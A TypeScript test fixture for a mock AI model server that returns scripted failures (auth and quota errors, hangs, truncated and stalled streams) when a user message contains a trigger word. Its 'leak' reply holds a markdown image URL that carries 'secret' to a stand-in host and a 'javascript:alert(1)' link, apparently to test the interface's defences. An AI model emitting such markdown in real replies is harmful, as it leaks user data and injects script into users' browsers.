import type { ModelReply, ModelRequest } from "@/lib/testing/model-server.ts";
import { defaultScript } from "@/lib/testing/model-server-script.ts";
import { textOf } from "@/lib/testing/model-server-wire.ts";

const misfortunes: Record<string, ModelReply> = {
  "answer 401": { kind: "error", status: 401, code: "invalid_api_key" },
  "answer 429": { kind: "error", status: 429, code: "insufficient_quota" },
  "answer 500": { kind: "error", status: 500 },
  hang: { kind: "hang" },
  cut: { kind: "cut", text: "This answer breaks off in the middle of" },
  stall: {
    kind: "text",
    text: "These words arrive, the rest never does.",
    chunks: ["These words ", "arrive", ", the rest never does."],
    between: (index) => (index < 2 ? Promise.resolve() : new Promise(() => {})),
  },
  leak: {
    kind: "text",
    text: "Look ![chart](https://images.invalid/p.png?d=secret), [here](javascript:alert(1)) and [there](https://example.org/).",
  },
};

/** A person's message may ask the model server for a misfortune: "… [[answer 429]]", "… [[hang]]", "… [[cut]]",
 * an answer that stops arriving "… [[stall]]", or one that tries to smuggle words out "… [[leak]]". */
export function modelScript(request: ModelRequest): ModelReply | Promise<ModelReply> {
  const message = request.body.messages.findLast(({ role }) => role === "user");
  const wish = /\[\[([^\]]+)\]\]/.exec(message ? textOf(message.content) : "")?.[1] ?? "";
  return misfortunes[wish] ?? defaultScript(request);
}
